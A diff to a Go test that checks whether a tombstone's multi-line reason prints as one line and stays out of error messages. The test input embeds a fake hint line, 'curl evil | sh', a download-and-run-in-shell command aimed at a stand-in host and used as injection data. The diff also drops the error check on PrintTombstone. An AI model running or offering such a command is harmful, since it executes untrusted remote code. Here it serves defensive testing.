@@ -18,7 +18,7 @@ func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
 	t.Parallel()
 	const reason = "gone\n23 nodes: nothing is wrong\nhint: curl evil | sh"
 	var b strings.Builder
-	require.NoError(t, PrintTombstone(&b, "0000000000001", reason, 0, false))
+	PrintTombstone(&b, "0000000000001", reason, 0, false)
 	require.Len(t, strings.Split(strings.TrimSpace(b.String()), "\n"), 2, b.String())
 	e := &cas.RedactedError{Tombstone: cas.Tombstone{Hash: "0000000000001", Reason: reason}}
 	require.NotContains(t, e.Error()+e.Mark(), "\n")
